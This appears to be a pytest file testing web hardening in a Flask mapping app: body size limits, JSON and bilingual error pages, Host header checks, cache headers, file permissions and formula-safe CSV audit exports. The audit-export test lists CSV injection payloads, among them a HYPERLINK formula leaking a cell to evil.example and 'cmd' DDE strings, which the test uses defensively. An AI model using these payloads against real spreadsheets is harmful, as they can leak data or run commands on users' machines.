"""Web hardening: the body size limit, one error shape and error pages per status in both languages, the Host
header, caching of what staff see, formula-safe audit exports and private files; on every backend (the files a
GeoPackage store is made of are the GeoPackage's own)."""

from __future__ import annotations

import csv
import os
import re
import stat
import subprocess
import threading
from html.parser import HTMLParser

import pytest
from flask import abort

import geoapp.errors
from geoapp.config import PROJECT_ROOT
from geoapp.errors import ConfigError, GeoappError
from geoapp.web import create_app
from tests.conftest import login
from tests.test_tiles import Upstream, image

HOARDING = "/api/layers/construction_hoardings/features"
JSON = {"Accept": "application/json"}
WERKZEUG_404 = "The requested URL was not found on the server"
pytestmark = pytest.mark.backends("gpkg", "postgis")


def _token(runner, role: str) -> dict:
    """A machine token made with the CLI, as headers."""
    result = runner.invoke(args=["geoapp", "token", "add", f"{role}-bot", "--role", role])
    assert result.exit_code == 0, result.output
    return {"Authorization": f"Bearer {result.stdout.splitlines()[0].strip()}"}


def _version(client, url: str, headers: dict) -> int:
    return client.get(url, headers=headers).json["version"]


# -- the body size limit ------------------------------------------------------------------------


def test_a_body_over_the_limit_is_refused_with_413_in_the_json_shape(client, runner):
    planner = _token(runner, "planner")
    body = b'{"properties": {"notes": "' + b"x" * (5 * 1024 * 1024) + b'"}}'  # over the default 4 MB
    refused = client.patch(f"{HOARDING}/1", data=body, headers={**planner, "Content-Type": "application/json"})
    assert refused.status_code == 413
    error = refused.json["error"]
    assert error["code"] == "payload_too_large" and error["parameter"] == "body"
    assert re.search(r"\b(4 MB|4194304 bytes)\b", error["message"]), error["message"]  # the allowed size


def test_the_limit_is_a_setting_and_browsers_get_a_page(database):
    app = create_app({"TESTING": True, "GEOAPP_DATABASE": str(database), "GEOAPP_MAX_BODY_MB": "0.5"})
    client = app.test_client()
    form = {"name": "planner", "password": "x" * (600 * 1024)}
    page = client.post("/login?lang=en", data=form, headers={"Accept": "text/html"})
    assert page.status_code == 413 and page.mimetype == "text/html"
    text = _text(page)
    assert "413 · Request too large" in text and "524288 bytes" in text
    assert client.post("/login", data={"name": "planner", "password": "short"}).status_code != 413
    app.extensions["geoapp"].close()


def test_a_bad_size_setting_stops_the_app(database):
    with pytest.raises(ConfigError, match="GEOAPP_MAX_BODY_MB"):
        create_app({"TESTING": True, "GEOAPP_DATABASE": str(database), "GEOAPP_MAX_BODY_MB": "lots"})


# -- one JSON error shape for every status the app answers ---------------------------------------


def _shape(response, status: int) -> dict:
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    body = response.json
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message", "parameter"}
    error = body["error"]
    assert re.fullmatch(r"[a-z]+(_[a-z]+)*", error["code"]), error["code"]
    assert isinstance(error["message"], str) and error["message"].strip()
    assert error["parameter"] is None or isinstance(error["parameter"], str)
    return error


@pytest.fixture
def held_upstream():
    """A tile upstream that fails img tiles at once and answers vec tiles only when the test lets it go."""

    def answer(handler):
        if handler.path.startswith("/img"):
            image(handler, b"down", "text/plain", 500)
        else:
            upstream.release.wait(30)
            image(handler)

    upstream = Upstream(answer)
    yield upstream
    upstream.close()


def test_every_status_the_app_answers_has_the_json_shape(app, client, runner, database, tmp_path, held_upstream):
    planner, viewer = _token(runner, "planner"), _token(runner, "viewer")
    seen: dict[int, dict] = {}

    def check(response, status):
        seen[status] = _shape(response, status)
        return seen[status]

    check(client.get("/api/layers/manhole_covers/features?limit=lots"), 400)
    check(client.patch(f"{HOARDING}/1", json={"properties": {"notes": "x"}}), 401)
    assert check(client.patch(f"{HOARDING}/1", json={"properties": {"notes": "x"}}, headers=viewer), 403)
    assert check(client.post("/logout", headers=JSON), 403)["parameter"] == "csrf_token"
    check(client.get("/api/layers/lakes"), 404)
    assert WERKZEUG_404 not in check(client.get("/no/such/page", headers=JSON), 404)["message"]
    allowed = client.get("/logout", headers=JSON)
    check(allowed, 405)
    assert "POST" in allowed.headers["Allow"]
    version = _version(client, f"{HOARDING}/1", planner)
    assert (
        client.patch(
            f"{HOARDING}/1", json={"version": version, "properties": {"notes": "a"}}, headers=planner
        ).status_code
        == 200
    )
    check(client.patch(f"{HOARDING}/1", json={"version": version, "properties": {"notes": "b"}}, headers=planner), 409)
    big = {**planner, "Content-Type": "application/json"}
    check(client.patch(f"{HOARDING}/1", data=b"[" * (5 * 1024 * 1024), headers=big), 413)
    check(client.patch(f"{HOARDING}/1", json={"properties": {"notes": "c"}}, headers=planner), 428)
    check(_too_many_sign_ins(app), 429)

    tiles = create_app(
        {
            "TESTING": True,
            "GEOAPP_DATABASE": str(database),
            "GEOAPP_BASEMAP": "tianditu",
            "GEOAPP_TIANDITU_KEY": "tk-test",
            "GEOAPP_TIANDITU_URL": held_upstream.url + "/{layer}",
            "GEOAPP_TILE_CACHE": str(tmp_path / "tiles"),
            "GEOAPP_TILE_CONCURRENCY": "1",
            "GEOAPP_TILE_TIMEOUT": "30",
        }
    )
    check(tiles.test_client().get("/tiles/tianditu/img/3/6/2", headers=JSON), 502)
    held_upstream.asked.clear()
    thread = threading.Thread(target=lambda: tiles.test_client().get("/tiles/tianditu/vec/3/6/2"))
    thread.start()
    try:
        assert held_upstream.asked.wait(10)  # the one slot waits on the upstream
        busy = tiles.test_client().get("/tiles/tianditu/vec/3/5/2", headers=JSON)
        check(busy, 503)
        assert int(busy.headers["Retry-After"]) > 0
    finally:
        held_upstream.release.set()
        thread.join(30)
        tiles.extensions["geoapp"].close()
    assert sorted(seen) == [400, 401, 403, 404, 405, 409, 413, 428, 429, 502, 503]


def _too_many_sign_ins(app):
    """Sign in with a wrong password until the sign-in policy refuses (JSON asked for); it never sleeps."""
    client = app.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    for _ in range(12):
        response = client.post(
            "/login", data={"name": "nobody", "password": "wrong", "csrf_token": token}, headers=JSON
        )
        if response.status_code != 401:
            break
    return response


def _error_classes():
    return [
        cls
        for cls in vars(geoapp.errors).values()
        if isinstance(cls, type) and issubclass(cls, GeoappError) and cls is not GeoappError
    ]


def test_every_error_class_answers_the_shape_its_status_and_retry_after(database):
    """Each class of geoapp.errors (429 TooManyAttempts and 503 StoreBusy too) as the one handler answers it."""
    app = create_app({"TESTING": True, "GEOAPP_DATABASE": str(database)})
    classes = {cls.__name__: cls for cls in _error_classes()}

    @app.get("/api/raise/<name>")
    def _raise(name):
        raise classes[name]("what went wrong", parameter="where")

    client = app.test_client()
    for name, cls in classes.items():
        response = client.get(f"/api/raise/{name}")
        error = _shape(response, cls.status)
        assert error == {"code": cls.code, "message": "what went wrong", "parameter": "where"}
        if cls.retry_after is not None:
            assert response.headers["Retry-After"] == str(cls.retry_after)
    app.extensions["geoapp"].close()


# -- HTML error pages ---------------------------------------------------------------------------


class _Text(HTMLParser):
    def __init__(self):
        super().__init__()
        self.parts: list[str] = []
        self.title = ""
        self._in_title = False

    def handle_starttag(self, tag, attrs):
        self._in_title = tag == "title"

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data
        self.parts.append(data)


def _text(response) -> str:
    parser = _Text()
    parser.feed(response.get_data(as_text=True))
    return " ".join(" ".join(parser.parts).split())


def _title(response) -> str:
    parser = _Text()
    parser.feed(response.get_data(as_text=True))
    return parser.title.strip()


def test_a_404_page_speaks_the_visitors_language_and_never_werkzeugs(client):
    chinese = client.get("/no/such/page")
    assert chinese.status_code == 404 and chinese.mimetype == "text/html"
    assert "404 · 未找到" in _text(chinese) and _title(chinese).startswith("404 未找到")
    assert "此地址下没有内容" in _text(chinese)
    assert WERKZEUG_404 not in chinese.get_data(as_text=True)
    english = client.get("/no/such/page?lang=en")
    assert "404 · Not found" in _text(english) and "There is nothing at this address" in _text(english)
    assert WERKZEUG_404 not in english.get_data(as_text=True)
    # the language chosen once is remembered by its cookie
    assert "404 · Not found" in _text(client.get("/still/nothing"))


def test_each_status_has_its_own_title_in_both_languages(app):
    from geoapp.web.errors import status_text

    statuses = (400, 401, 403, 404, 405, 409, 413, 428, 429, 500, 502, 503)
    titles = {}
    for lang in ("zh", "en"):
        with app.test_request_context(f"/?lang={lang}"):
            titles[lang] = {status: status_text(status) for status in statuses}
    for lang in ("zh", "en"):
        headings = [heading for heading, _ in titles[lang].values()]
        assert len(set(headings)) == len(statuses), headings
        assert all(explanation.strip() for _, explanation in titles[lang].values())
    assert [s for s in statuses if titles["zh"][s][0] == "请求有误"] == [400]
    for status in statuses:  # translated, not the English ids
        assert titles["zh"][status][0] != titles["en"][status][0]
        assert re.search(r"[\u4e00-\u9fff]", titles["zh"][status][1])


def test_a_refused_csrf_check_is_a_403_page_from_the_one_handler(client):
    page = client.post("/logout")
    assert page.status_code == 403 and page.mimetype == "text/html"
    text = _text(page)
    assert "403 · 无权访问" in text and "csrf_token" in text and "请求有误" not in text
    english = client.post("/logout?lang=en")
    assert "403 · Not allowed" in _text(english)


# -- the Host header ----------------------------------------------------------------------------


def test_an_untrusted_host_is_refused_and_never_copied_into_links(client):
    for path in ("/features/construction_hoardings/1", "/admin/deleted", "/api/layers/manhole_covers/features"):
        refused = client.get(path, headers={"Host": "evil.example"})
        assert refused.status_code == 400, path
        assert "evil.example" not in refused.get_data(as_text=True) and "Location" not in refused.headers
        assert refused.json["error"]["parameter"] == "Host"
    page = client.get("/features/construction_hoardings/1", headers={"Host": "127.0.0.1:5000"})
    assert page.status_code == 200 and "http://127.0.0.1:5000/features/construction_hoardings/1" in page.text


def test_a_forwarded_host_is_checked_too(database):
    app = create_app({"TESTING": True, "GEOAPP_DATABASE": str(database), "GEOAPP_PROXIES": "1"})
    refused = app.test_client().get("/api/layers", headers={"X-Forwarded-Host": "evil.example"})
    assert refused.status_code == 400 and refused.json["error"]["parameter"] == "Host"
    app.extensions["geoapp"].close()


def test_links_are_built_on_the_base_url(database):
    app = create_app(
        {"TESTING": True, "GEOAPP_DATABASE": str(database), "GEOAPP_BASE_URL": "https://onemap.example.gov.cn"}
    )
    client = app.test_client()
    for host in ("onemap.example.gov.cn", "127.0.0.1:5000", "localhost"):
        page = client.get("/features/construction_hoardings/1", base_url=f"https://{host}")
        assert page.status_code == 200, host
        assert 'href="https://onemap.example.gov.cn/features/construction_hoardings/1"' in page.text
    assert client.get("/", headers={"Host": "evil.example"}).status_code == 400
    app.extensions["geoapp"].close()


@pytest.mark.parametrize("base", ["onemap.example.gov.cn", "ftp://onemap.example.gov.cn", "https://x/onemap?a=1"])
def test_a_bad_base_url_stops_the_app(database, base):
    with pytest.raises(ConfigError, match="GEOAPP_BASE_URL"):
        create_app({"TESTING": True, "GEOAPP_DATABASE": str(database), "GEOAPP_BASE_URL": base})


def test_trusted_hosts_can_be_listed(database):
    app = create_app(
        {"TESTING": True, "GEOAPP_DATABASE": str(database), "GEOAPP_TRUSTED_HOSTS": "onemap.lan, .example.gov.cn"}
    )
    client = app.test_client()
    assert client.get("/api/layers", headers={"Host": "onemap.lan:8080"}).status_code == 200
    assert client.get("/api/layers", headers={"Host": "gis.example.gov.cn"}).status_code == 200
    assert client.get("/api/layers", headers={"Host": "localhost"}).status_code == 400  # the list replaces the default
    assert client.get("/api/layers", headers={"Host": "evil.example"}).status_code == 400
    app.extensions["geoapp"].close()


# -- caching --------------------------------------------------------------------------------------


def test_staff_answers_are_never_stored_and_the_publics_keep_their_etag(client, runner):
    public = client.get(f"{HOARDING}/1")
    assert public.status_code == 200 and public.headers.get("ETag")
    assert "no-store" not in public.headers.get("Cache-Control", "")
    assert {"Cookie", "Authorization"} <= set(public.vary)
    assert client.get(f"{HOARDING}/1", headers={"If-None-Match": public.headers["ETag"]}).status_code == 304

    planner = _token(runner, "planner")
    for path in (f"{HOARDING}/1", "/api/layers", "/", "/features/construction_hoardings/1"):
        staff = client.get(path, headers=planner)
        assert staff.status_code == 200, path
        assert staff.cache_control.private and staff.cache_control.no_store, path
        assert "Cookie" in staff.vary, path
    missing = client.get(f"{HOARDING}/99999", headers=planner)
    assert missing.status_code == 404 and missing.cache_control.no_store
    # what is the same for everyone stays cacheable: browser assets
    asset = client.get("/static/vendor/leaflet/dist/leaflet.js", headers=planner)
    assert asset.status_code == 200 and asset.cache_control.public and not asset.cache_control.no_store


def test_a_signed_in_session_is_never_stored(client, users):
    signed_in, _ = login(client, "planner")
    assert signed_in.status_code == 302 and signed_in.cache_control.no_store  # the answer that sets the cookie
    for path in ("/", f"{HOARDING}/1", "/admin/deleted"):
        response = client.get(path)
        assert response.cache_control.private and response.cache_control.no_store, path
        assert "Cookie" in response.vary


# -- the audit export -----------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_audit_export_cannot_be_run_as_formulas(client, runner, tmp_path):
    planner = _token(runner, "planner")
    url = f"{HOARDING}/1"
    for value in [*HOSTILE, "普通文本"]:
        version = _version(client, url, planner)
        changed = client.patch(url, json={"version": version, "properties": {"notes": value}}, headers=planner)
        assert changed.status_code == 200, changed.get_data(as_text=True)
    output = tmp_path / "audit.csv"
    result = runner.invoke(args=["geoapp", "audit", "export", "--since", "2000-01-01", "--output", str(output)])
    assert result.exit_code == 0, result.output
    with open(output, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    notes = [row for row in rows if row["field"] == "notes" and row["layer"] == "construction_hoardings"]
    assert [row["new"] for row in notes] == [f"'{value}" for value in HOSTILE] + ["普通文本"]
    assert [row["old"] for row in notes[1:]] == [f"'{value}" for value in HOSTILE]
    for row in rows:  # no cell of the whole file starts a formula
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert all(row["fid"].isdigit() for row in notes)  # numbers stay numbers


# -- files the app creates ------------------------------------------------------------------------


def test_a_store_made_by_init_is_readable_by_its_owner_only(tmp_path):
    database = tmp_path / "made" / "geoapp.gpkg"
    env = {**os.environ, "GEOAPP_DATABASE": str(database), "GEOAPP_BASEMAP": "none"}
    flask = [str(PROJECT_ROOT / ".venv/bin/flask"), "--app", "wsgi", "geoapp"]

    def run(*args):
        # a shell's usual umask: the app must not rely on the caller's
        done = subprocess.run(
            ["sh", "-c", 'umask 022 && exec "$@"', "sh", *flask, *args],
            cwd=PROJECT_ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert done.returncode == 0, done.stderr

    run("init", "--demo")
    run("stats")  # opens the store: its journal files are made too
    made = [database.parent, *database.parent.iterdir()]
    assert database in made
    for path in made:
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0, f"{path}: {oct(path.stat().st_mode)}"


def test_abort_in_a_view_still_answers_the_shape(database):
    app = create_app({"TESTING": True, "GEOAPP_DATABASE": str(database)})

    @app.get("/api/gone")
    def _gone():
        abort(410)

    error = _shape(app.test_client().get("/api/gone"), 410)
    assert error["code"] == "gone"
    app.extensions["geoapp"].close()
